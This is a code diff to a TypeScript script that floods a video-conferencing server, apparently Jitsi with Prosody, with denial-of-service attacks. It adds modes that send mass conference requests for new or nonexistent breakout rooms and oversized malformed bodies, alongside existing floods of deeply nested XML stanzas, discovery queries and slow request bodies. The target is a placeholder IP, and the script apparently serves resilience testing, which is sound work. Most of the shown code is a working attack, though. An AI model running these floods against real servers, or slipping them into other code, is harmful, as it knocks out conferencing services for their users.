@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto';
 import { connect } from 'node:net';
 import { DOMAIN, Participant, send } from './participant.js';
 
@@ -7,7 +8,10 @@ const BODY = `<body xmlns='${HTTPBIND}' rid='1' to='${DOMAIN}' ver='1.6' wait='6
 const STRANGER = '192.0.2.66';
 const ROOM = 'party';
 
-const again = async (times: number, attack: () => Promise<unknown>): Promise<void> => {
+/** Tells the observer that the attack is under way. */
+const report = () => console.log('attacking');
+
+const repeat = async (times: number, attack: () => Promise<unknown>): Promise<void> => {
   await Promise.all(
     Array.from({ length: times }, async () => {
       for (;;) {
@@ -19,13 +23,25 @@ const again = async (times: number, attack: () => Promise<unknown>): Promise<voi
   );
 };
 
+const again = (times: number, attack: () => Promise<unknown>): Promise<void> => {
+  report();
+  return repeat(times, attack);
+};
+
 const bosh = (body: string) => send(STRANGER, `/http-bind?room=${ROOM}`, body);
 
-/** So many who have logged in send this again and again, as fast as it is taken. */
+/** A request for a conference. `host`: the component of Prosody that would have the room. */
+const conference = (room: string, host: string) => {
+  const body = JSON.stringify({ room: `${room}@${host}.${DOMAIN}`, properties: {} });
+  return send(STRANGER, `/conference-request/v1?room=${host === 'conference' ? room : ROOM}`, body);
+};
+
+/** So many who have logged in send this again and again, as fast as it is taken. Reports once one of them is in. */
 async function flood(people: number, stanza: (of: Participant) => string, inRoom = false): Promise<void> {
   const start = () => (inRoom ? Participant.join(STRANGER, ROOM) : Participant.logIn(STRANGER, ROOM));
-  await again(people, async () => {
+  await repeat(people, async () => {
     const participant = await start();
+    report();
     while (!participant.closed) {
       if (participant.socket.bufferedAmount < 200_000) participant.send(stanza(participant));
       else await new Promise((resolve) => setTimeout(resolve, 1));
@@ -62,6 +78,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     });
   },
   'slow bodies': async () => {
+    report();
     const head = [
       'POST /http-bind?room=x HTTP/1.1',
       'host: x',
@@ -75,6 +92,14 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     }
     await new Promise(() => setInterval(() => {}, 1_000));
   },
+  'conference requests for new rooms': () => {
+    let rooms = 0;
+    return again(30, () => conference(`new${rooms++}`, 'conference'));
+  },
+  'conference requests for breakout rooms that do not exist': () =>
+    again(30, () => conference(randomUUID(), 'breakout')),
+  'conference requests with bodies of 8 KB': () =>
+    again(30, () => send(STRANGER, `/conference-request/v1?room=${ROOM}`, '['.repeat(8_000))),
   'many questions over HTTP': () => again(60, () => send(STRANGER, `/http-bind?room=${ROOM}`)),
   'nested stanzas after login': () => flood(30, () => iq('<x>'.repeat(5_000) + '</x>'.repeat(5_000))),
   'discovery by many': () => flood(30, () => iq("<query xmlns='http://jabber.org/protocol/disco#info'/>")),
@@ -94,5 +119,4 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     ),
 };
 
-console.log('attacking');
 await ATTACKS[process.argv[2] ?? '']?.();
